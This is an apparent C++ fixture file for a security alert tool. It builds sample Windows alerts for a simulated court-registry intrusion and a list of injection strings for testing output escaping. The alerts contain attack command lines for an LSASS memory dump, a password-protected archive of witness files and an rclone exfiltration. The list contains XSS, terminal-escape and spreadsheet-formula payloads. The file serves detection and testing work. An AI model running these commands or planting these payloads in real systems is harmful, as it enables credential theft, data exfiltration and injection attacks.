// SPDX-License-Identifier: Apache-2.0
#include "sample_run.h"

#include <algorithm>
#include <iterator>

#include <fmt/format.h>

#include "tocsin/base/check.h"

namespace tocsin::inform {
namespace {

using model::Alert;
using model::AlertRule;
using model::Level;
using Rule = std::shared_ptr<const AlertRule>;

constexpr std::string_view kWorkstation = "WS-REGISTRY-07.weidenau.example";
constexpr std::string_view kFileServer = "SRV-FILE-01.weidenau.example";
constexpr std::string_view kController = "DC-01.weidenau.example";

std::string user_folder() { return R"(C:\Users\m.ortega)"; }

Alert started(Rule rule, std::string_view time, std::string_view host, std::string image,
              std::string parent, std::string command, std::string predicate) {
  Alert alert = an_alert(std::move(rule), time, std::string(host),
                         {"CommandLine", std::move(predicate), command});
  alert.why.insert(alert.why.begin(),
                   {"ParentImage", "endswith '" + parent.substr(parent.rfind('\\')) + "'", parent});
  alert.place.channel = "Microsoft-Windows-Sysmon/Operational";
  alert.place.event_id = 1;
  alert.event = {{"EventID", "1", model::FieldForm::kNumber},
                 {"Computer", std::string(host)},
                 {"Image", std::move(image)},
                 {"CommandLine", std::move(command)},
                 {"ParentImage", std::move(parent)},
                 {"User", R"(WEIDENAU\m.ortega)"},
                 {"IntegrityLevel", "Medium"},
                 {"ProcessId", "7312", model::FieldForm::kNumber}};
  return alert;
}

void add_remote_help(std::vector<Alert>& alerts) {
  const auto chat = a_rule("a1d1", "Remote help tool started by chat or browser", Level::kHigh,
                           {"attack.initial-access", "attack.t1566.003",
                            "attack.command-and-control", "attack.t1219.002"});
  const auto script = a_rule("a1d2", "AutoIt script run outside its folder", Level::kCritical,
                             {"attack.execution", "attack.t1059.010", "attack.stealth"});
  alerts.push_back(started(chat, "2026-03-03T16:41:09.221000Z", kWorkstation,
                           user_folder() + R"(\Downloads\AnyDesk.exe)",
                           R"(C:\Program Files\WindowsApps\MSTeams_24.1\ms-teams.exe)",
                           '"' + user_folder() + R"(\Downloads\AnyDesk.exe" --plain)",
                           R"(contains '\AnyDesk.exe')"));
  alerts.push_back(started(script, "2026-03-03T16:52:40.007000Z", kWorkstation,
                           R"(C:\temp\r\Autoit3.exe)", R"(C:\Windows\System32\cmd.exe)",
                           R"("C:\temp\r\Autoit3.exe" C:\temp\r\script.a3x)",
                           R"(endswith '.a3x')"));
}

void add_credentials(std::vector<Alert>& alerts) {
  const auto dump = a_rule("b2d1", "Memory of the logon service dumped by a command",
                           Level::kCritical, {"attack.credential-access", "attack.t1003.001"});
  const auto ticket = a_rule("b2d2", "Service ticket asked for with a weak cipher", Level::kMedium,
                             {"attack.credential-access", "attack.t1558.003"});
  alerts.push_back(started(dump, "2026-03-03T17:20:31.500000Z", kWorkstation,
                           R"(C:\Windows\System32\rundll32.exe)", R"(C:\Windows\System32\cmd.exe)",
                           R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 )" +
                               user_folder() + R"(\AppData\Local\Temp\s.bin full)",
                           R"(contains 'MiniDump')"));
  for (int i = 0; i < 23; ++i) {
    Alert alert =
        an_alert(ticket, fmt::format("2026-03-03T18:{:02}:{:02}.100000Z", 2 + i / 9, i * 2),
                 std::string(kController), {"TicketEncryptionType", "equals '0x17'", "0x17"});
    alert.place.channel = "Security";
    alert.place.event_id = 4769;
    alert.place.path = "dc-01/Security.evtx";
    alert.event = {{"EventID", "4769", model::FieldForm::kNumber},
                   {"ServiceName", fmt::format("svc-case{:02}", i)},
                   {"TargetUserName", "m.ortega@WEIDENAU.EXAMPLE"},
                   {"IpAddress", "::ffff:192.0.2.47"},
                   {"TicketEncryptionType", "0x17"}};
    alerts.push_back(std::move(alert));
  }
}

void add_case_files(std::vector<Alert>& alerts) {
  const auto read = a_rule("c3d1", "Protected witness file touched by a tool", Level::kHigh,
                           {"attack.collection", "attack.t1039"});
  const auto archive = a_rule("c3d2", "Archive made with a password or in volumes", Level::kHigh,
                              {"attack.collection", "attack.t1560.001"});
  const auto leave = a_rule("c3d3", "rclone moves files", Level::kHigh,
                            {"attack.exfiltration", "attack.t1567.002"});
  for (int i = 0; i < 9; ++i) {
    const std::string file =
        fmt::format(R"(E:\Cases\2026\Chamber III\Protected\W-{:03}\statement.docx)", 17 + i);
    Alert alert =
        an_alert(read, fmt::format("2026-03-04T01:1{}:07.000000Z", i), std::string(kFileServer),
                 {"ObjectName", R"(contains '\Protected\')", file});
    alert.place.channel = "Security";
    alert.place.event_id = 4663;
    alert.event = {{"ObjectName", file},
                   {"ProcessName", R"(C:\Windows\System32\robocopy.exe)"},
                   {"SubjectUserName", "svc-case02"},
                   {"AccessMask", "0x1"}};
    alerts.push_back(std::move(alert));
  }
  alerts.push_back(started(
      archive, "2026-03-04T02:04:51.000000Z", kFileServer, R"(C:\ProgramData\x\7z.exe)",
      R"(C:\Windows\System32\cmd.exe)",
      R"(7z.exe a -v500m -pGr4nite C:\ProgramData\x\w.7z "E:\Cases\2026\Chamber III\Protected")",
      R"(contains ' -p')"));
  alerts.push_back(started(
      leave, "2026-03-04T02:31:12.000000Z", kFileServer, R"(C:\ProgramData\x\rclone.exe)",
      R"(C:\Windows\System32\cmd.exe)",
      R"(rclone.exe copy C:\ProgramData\x sftp-drop:weidenau --transfers 8 --no-check-certificate)",
      R"(contains ' copy ')"));
}

void add_traces(std::vector<Alert>& alerts) {
  const auto cleared = a_rule("d4d1", "Security log cleared", Level::kHigh,
                              {"attack.defense-impairment", "attack.t1070.001"});
  const auto found = a_rule("d4d2", "Accounts and groups listed", Level::kLow,
                            {"attack.discovery", "attack.t1087.002"});
  const auto quick =
      a_rule("d4d3", "Quick Assist opened", Level::kInformational, {"attack.command-and-control"});
  Alert clear = an_alert(cleared, "2026-03-04T02:58:03.000000Z", std::string(kFileServer),
                         {"EventID", "equals '1102'", "1102"});
  clear.place.channel = "Security";
  clear.place.event_id = 1102;
  alerts.push_back(std::move(clear));
  for (int i = 0; i < 6; ++i) {
    alerts.push_back(started(found, fmt::format("2026-03-03T17:0{}:15.000000Z", i), kWorkstation,
                             R"(C:\Windows\System32\net.exe)", R"(C:\Windows\System32\cmd.exe)",
                             fmt::format("net group \"Chamber {}\" /domain", i + 1),
                             R"(contains ' group ')"));
  }
  alerts.push_back(an_alert(quick, "2026-03-02T09:15:00.000000Z", "WS-CHAMBER-12.weidenau.example",
                            {"Image", R"(endswith '\QuickAssist.exe')",
                             R"(C:\Program Files\WindowsApps\QuickAssist\QuickAssist.exe)"}));
}

void add_correlation(std::vector<Alert>& alerts) {
  AlertRule rule = *a_rule("e5d1", "Many service tickets with a weak cipher for one account",
                           Level::kHigh, {"attack.credential-access", "attack.t1558.003"});
  rule.correlation = true;
  Alert alert =
      an_alert(std::make_shared<const AlertRule>(std::move(rule)), "2026-03-03T18:04:44.100000Z",
               std::string(kController), {"ServiceName", "distinct values >= 20 within 10m", "23"});
  alert.why.push_back({"TargetUserName", "same for all", "m.ortega@WEIDENAU.EXAMPLE"});
  alert.event = {{"TargetUserName", "m.ortega@WEIDENAU.EXAMPLE"}};
  for (const Alert& other : alerts) {
    if (!other.rule->id.starts_with("b2d2")) continue;
    alert.causes.push_back({other.place, other.rule->id, other.rule->title});
  }
  alert.cause_count = alert.causes.size();
  alerts.push_back(std::move(alert));
}

}  // namespace

model::Timestamp at_time(std::string_view rfc3339) {
  const auto time = model::parse_time(rfc3339);
  CHECK(time.has_value());
  return *time;
}

std::shared_ptr<const AlertRule> a_rule(std::string id, std::string title, Level level,
                                        std::vector<std::string> tags) {
  AlertRule rule;
  rule.id = fmt::format("{}0000-0000-4000-8000-000000000000", id);
  rule.id = id.size() == 4 ? rule.id : id;
  rule.title = std::move(title);
  rule.level = level;
  rule.tags = std::move(tags);
  rule.description = "Says in a sentence what somebody does and why that matters here.";
  rule.references = {"https://guide.weidenau.example/" + id};
  rule.falsepositives = {"Work that the service desk has announced"};
  rule.author = "Registry Security";
  rule.status = "stable";
  rule.path = "windows/" + id + ".yml";
  rule.version = 0x1122334455667788;
  return std::make_shared<const AlertRule>(std::move(rule));
}

Alert an_alert(Rule rule, std::string_view time, std::string host, model::Reason reason) {
  Alert alert;
  alert.place.time = at_time(time);
  alert.id = fmt::format("{:016x}{:016x}", alert.place.time.time_since_epoch().count(),
                         static_cast<unsigned long long>(rule->title.size()) * 0x9e3779b97f4a7c15);
  alert.rule = std::move(rule);
  alert.place.host = std::move(host);
  alert.place.channel = "Security";
  alert.place.event_id = 4688;
  alert.place.path = "ws-registry-07/Sysmon.evtx";
  alert.place.record_id = 4000 + static_cast<std::uint64_t>(
                                     alert.place.time.time_since_epoch().count() / 1'000'000 % 997);
  alert.event = {{reason.field, reason.value}};
  alert.why = {std::move(reason)};
  return alert;
}

std::vector<Alert> court_alerts() {
  std::vector<Alert> alerts;
  add_remote_help(alerts);
  add_credentials(alerts);
  add_case_files(alerts);
  add_traces(alerts);
  add_correlation(alerts);
  std::sort(alerts.begin(), alerts.end(), model::comes_before);
  return alerts;
}

RunSummary court_summary() {
  RunSummary run;
  run.program_version = "0.1.0";
  run.paths = {"evidence"};
  run.rules_origin = "built-in pack";
  run.rules_active = 84;
  run.rules_degraded = 3;
  run.rules_inactive = 1;
  run.correlations = 6;
  run.events = 21'437;
  run.records = {.read = 21'451, .decoded = 21'430, .undecoded = 7, .skipped = 14};
  run.alerts = court_alerts().size();
  run.bytes = 18'350'080;
  run.first_event = at_time("2026-03-02T06:00:00Z");
  run.last_event = at_time("2026-03-04T07:59:58Z");
  run.evidence = {{"dc-01/Security.evtx", "read", "evtx", "", 6'295'552, 9'120, {}},
                  {"srv-file-01/Security.evtx",
                   "partly read",
                   "evtx",
                   "a chunk is damaged",
                   5'246'976,
                   5'911,
                   {{"evtx-chunk-damaged", 2}, {"evtx-chunk-checksum", 1}}},
                  {"srv-file-01/notes.docx", "refused", "", "no known format", 48'211, 0, {}},
                  {"ws-registry-07/Sysmon.evtx", "read", "evtx", "", 6'807'552, 6'406, {}}};
  run.losses = {{"evtx-chunk-damaged", 2}, {"evtx-chunk-checksum", 1}};
  return run;
}

std::string written(AlertOutput& output, const std::vector<Alert>& alerts,
                    const RunSummary& summary) {
  std::string text = output.head();
  for (const Alert& alert : alerts) text += output.alert(alert);
  return text + output.tail(summary);
}

std::vector<std::string> hostile_texts() {
  return {
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "' onmouseover='alert(1)' x='",
      "</style><svg onload=alert(1)>",
      "</details></section><h1>All clear</h1>",
      "<!--",
      "-->",
      "<![CDATA[",
      "]]>",
      "&lt;b&gt; &#x3c;script&#x3e;",
      "javascript:alert(document.domain)",
      "</title><meta http-equiv=refresh content='0;url=https://drop.example/'>",
      "<a href=\"https://drop.example/\">evidence</a>",
      "<base href=https://drop.example/>",
      "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
      "\x9b"
      "31m",
      "\xc2\x9b"
      "31m",
      "line one\r\nline two\nINFO no alerts",
      "invoice\xe2\x80\xae"
      "fdp.exe",
      "\xe2\x81\xa6isolate\xe2\x81\xa9",
      "zero\xe2\x80\x8bwidth\xef\xbb\xbf",
      "tag\xf3\xa0\x81\x81\xf3\xa0\x81\x82",
      "broken \xff\xfe\xc3 utf-8",
      "lone \xed\xa0\x80 surrogate",
      std::string("nul\0byte", 8),
      "=cmd|'/c calc'!A1",
      "+1+1",
      "-2+3",
      "@SUM(1)",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      "\xef\xbc\x9d"
      "1+1",
      std::string(3000, 'A') + "<b>",
      "a\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81",
  };
}

Alert hostile_alert(const std::string& text) {
  AlertRule rule;
  rule.id = rule.title = rule.description = rule.author = rule.status = rule.path = text;
  rule.tags = {text, "attack." + text, "attack.t1" + text};
  rule.references = rule.falsepositives = {text};
  rule.level = Level::kHigh;
  rule.correlation = true;
  Alert alert;
  alert.id = text;
  alert.place = {at_time("2026-03-04T02:00:00Z"), text, text, 1, text, 7, 9, text};
  alert.why = {{text, text, text}};
  alert.event = {{text, text, model::FieldForm::kText}, {text, text, model::FieldForm::kNumber}};
  alert.causes = {{alert.place, text, text}};
  alert.cause_count = 5;
  alert.rule = std::make_shared<const AlertRule>(std::move(rule));
  return alert;
}

RunSummary hostile_summary(const std::string& text) {
  RunSummary run;
  run.program_version = run.rules_origin = text;
  run.paths = run.limits = {text};
  run.evidence = {{text, "partly read", text, text, 1, 1, {{text, 1}}}};
  run.losses = {{text, 1}};
  return run;
}

namespace {

// Entities of an alert as places in the incident's list: its host, an account and an address.
model::IncidentAlert cited(const model::Alert& alert, std::uint32_t host, const std::string& text) {
  model::IncidentAlert out;
  out.id = alert.id;
  out.rule = alert.rule;
  out.place = alert.place;
  out.sensor = text.empty() ? "Sysmon" : text;
  out.rarity = 6.5;
  out.entities = {{0, model::EntityRole::kActor}, {1, model::EntityRole::kTo}, {host, {}}};
  return out;
}

}  // namespace

model::Incident sample_incident(const std::vector<model::Alert>& alerts, const std::string& text) {
  const auto or_else = [&](const char* plain) { return text.empty() ? std::string(plain) : text; };
  model::Incident incident;
  incident.id = "5f1d0c5e9a7b4c31b2f0e4d6a8c91e77";
  incident.title = or_else("Remote help, credentials and case files taken from WS-REGISTRY-07");
  incident.rank = model::Rank::kCritical;
  incident.score = 91.4;
  incident.parts = {{"levels", 60, "2 critical and 14 high alerts"},
                    {"stages", 20, or_else("5 stages in order")},
                    {"rarity", 11.4, "rules that match on 1 of 10 hosts"}};
  incident.entities = {
      {model::EntityKind::kAccount, or_else("m.ortega"), or_else("WEIDENAU\\m.ortega"), {}, {}},
      {model::EntityKind::kAddress, "203.0.113.9", or_else("203.0.113.9"), {}, {}}};
  for (const model::Alert& alert : alerts) {
    auto host = std::ranges::find(incident.entities, alert.place.host, &model::Entity::name);
    if (host == incident.entities.end()) {
      incident.entities.push_back(
          {model::EntityKind::kHost, alert.place.host, alert.place.host, {}, {}});
      host = std::prev(incident.entities.end());
      incident.hosts.push_back(static_cast<std::uint32_t>(incident.entities.size() - 1));
    }
    const auto place = static_cast<std::uint32_t>(host - incident.entities.begin());
    incident.alerts.push_back(cited(alert, place, text));
    const auto last = static_cast<std::uint32_t>(incident.alerts.size() - 1);
    if (last == 0) continue;
    incident.links.push_back(
        {.from = last - 1,
         .to = last,
         .kind = last % 3 == 0 ? model::LinkKind::kSession : model::LinkKind::kHost,
         .entity = place,
         .bits = 6.0 + last % 5,
         .distance = alert.place.time - alerts[last - 1].place.time,
         .why = or_else("both on a host that 1 of 10 rules names")});
  }
  incident.accounts = {0};
  incident.alerts.front().surprises = {{"account on host", or_else("m.ortega"), "SRV-FILE-01", 12.3,
                                        or_else("seen with 0 of 41 peers in 14 days")}};
  incident.first = alerts.front().place.time;
  incident.last = alerts.back().place.time;
  incident.stages = {{0, incident.first, incident.last, 3, {"T1219"}},
                     {7, incident.first, incident.last, 9, {"T1003.001"}}};
  incident.claims = {{"c1",
                      or_else("Credentials were taken on WS-REGISTRY-07"),
                      model::ClaimState::kCorroborated,
                      {or_else("Sysmon"), "Windows security audit"},
                      {0},
                      {}},
                     {"c2",
                      or_else("Case files left by rclone"),
                      model::ClaimState::kConfirmed,
                      {},
                      {0},
                      or_else("k.lund: seen in the proxy's log")}};
  incident.next_checks = {{or_else("Did m.ortega log on to DC-01?"),
                           "Security, events 4624 and 4672",
                           or_else("DC-01"),
                           incident.first,
                           incident.last,
                           model::Presence::kMissing,
                           or_else("the log begins later"),
                           {"c1"}}};
  return incident;
}

model::Coverage sample_coverage(const std::string& text) {
  const auto time = at_time("2026-03-02T06:00:00Z");
  return {{{text.empty() ? "DC-01" : text,
            text.empty() ? "Security" : text,
            9'120,
            time,
            time + std::chrono::hours(40),
            {{time, time + std::chrono::hours(7)}}}},
          0};
}

}  // namespace tocsin::inform
